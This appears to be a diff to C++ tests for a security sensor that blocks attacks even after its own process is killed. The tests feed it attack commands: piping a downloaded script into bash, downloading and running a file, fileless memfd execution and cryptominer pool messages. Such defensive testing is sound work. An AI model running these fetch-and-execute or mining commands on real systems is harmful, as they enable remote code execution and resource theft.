@@ -5,8 +5,10 @@
 #include <signal.h>
 #include <sys/mount.h>
 #include <sys/utsname.h>
+#include <unistd.h>
 
 #include <cstdio>
+#include <filesystem>
 #include <utility>
 
 #include "base/files.h"
@@ -27,8 +29,7 @@ std::string attacks(const ChainSite& site, const FakePool& pool)
         "login", "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5.1\"]}\n");
     return site.fill("touch @D/inside; until [ -e @D/attack ]; do sleep 0.01; done\n"
                      "curl -s @URL | bash\n"
-                     "curl -s -o @D/fetched @URL && touch @D/network_works\n"
-                     "bash @D/fetched\n" +
+                     "curl -s @URL > @D/fetched && touch @D/network_works\n" +
                      program("live_fileless") + " memfd " + program("live_victim") + " @D v\n" +
                      program("live_stratum_client") + " 127.0.0.1 " + std::to_string(pool.port()) +
                      " " + message + " one @D/result &\n" +
@@ -110,6 +111,32 @@ TEST(Survival, PinnedProgramsBlockAfterTheSensorWasKilled)
         EXPECT_TRUE(eventually([&] { return pool.all_ended(); }));
     }
     EXPECT_EQ(pool.bytes(), "");
+}
+
+// By the programs that hear of opens, whose links are of perf events: before 5.15 those cannot be
+// pinned, and a process holds them.
+TEST(Survival, ADownloadedFileDoesNotRunAfterTheSensorWasKilled)
+{
+    ASSERT_NO_FATAL_FAILURE(hide_pins_from_other_guards());
+    ChainSite site;
+    GuardOptions options;
+    options.mode = Mode::block;
+    options.command = bash(site.fill("touch @D/inside; until [ -e @D/attack ]; do sleep 0.01; done\n"
+                                     "curl -s -o @D/fetched @URL && touch @D/network_works\n"
+                                     "bash @D/fetched; echo $? > @D/status\n"));
+    Guard guard(options);
+    ASSERT_TRUE(eventually([&] { return exists(site.folder / "inside"); }));
+    const std::string cgroup = guard.cgroup(), pins = guard.pins();
+    guard.process().signal(SIGKILL);
+    EXPECT_EQ(guard.process().wait(), 128 + SIGKILL);
+    site.folder.write("attack", "");
+    EXPECT_TRUE(eventually([&] { return slurp(site.folder / "status") == "137\n"; }));
+    EXPECT_TRUE(exists(site.folder / "network_works"));
+    EXPECT_FALSE(exists(site.marker()));
+
+    // As a successor would, which takes longer to start.
+    std::filesystem::remove_all(pins);
+    EXPECT_TRUE(eventually([&] { return ::rmdir(cgroup.c_str()) == 0; }));
 }
 
 TEST(Survival, StoppedSensorBlocksOn)
